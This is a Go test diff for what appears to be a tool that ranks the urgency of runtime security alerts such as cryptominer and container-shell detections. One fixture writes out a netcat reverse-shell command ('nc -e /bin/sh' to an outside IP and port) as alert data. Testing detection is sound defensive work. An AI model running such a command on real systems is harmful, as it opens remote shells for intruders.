@@ -85,3 +85,25 @@ func TestDoubt(t *testing.T) {
 		}
 	}
 }
+
+// TestUrgencyOfTheSure: where hardly anything harmless looks like an alert, the
+// priority of its rule does not make it wait, unless something else lowers it.
+func TestUrgencyOfTheSure(t *testing.T) {
+	for _, c := range []struct {
+		rule, fields string
+		want         Urgency
+	}{
+		{"Known Cryptominer Process Executed", `{"proc.name": "xmrig", "container.id": "3ad7b26ded6d"}`, Today},
+		{"Netcat Remote Code Execution in Container", `{"proc.name": "nc", "proc.cmdline": "nc -e /bin/sh 203.0.113.9 4444", "container.id": "3ad7b26ded6d"}`, Soon},
+		{"Terminal shell in container", `{"proc.name": "bash", "proc.pname": "runc", "container.id": "3ad7b26ded6d"}`, Routine},
+	} {
+		e, err := event.Parse([]byte(`{"rule": "` + c.rule + `", "source": "syscall", "priority": "Notice",
+			"time": "2026-01-02T03:04:05Z", "output": "an alert", "output_fields": ` + c.fields + `}`))
+		if err != nil {
+			t.Fatal(err)
+		}
+		if v := For(e).Verdict; v.Urgency != c.want {
+			t.Errorf("%s: urgency %v (%s), want %v", c.rule, v.Urgency, v.Because, c.want)
+		}
+	}
+}
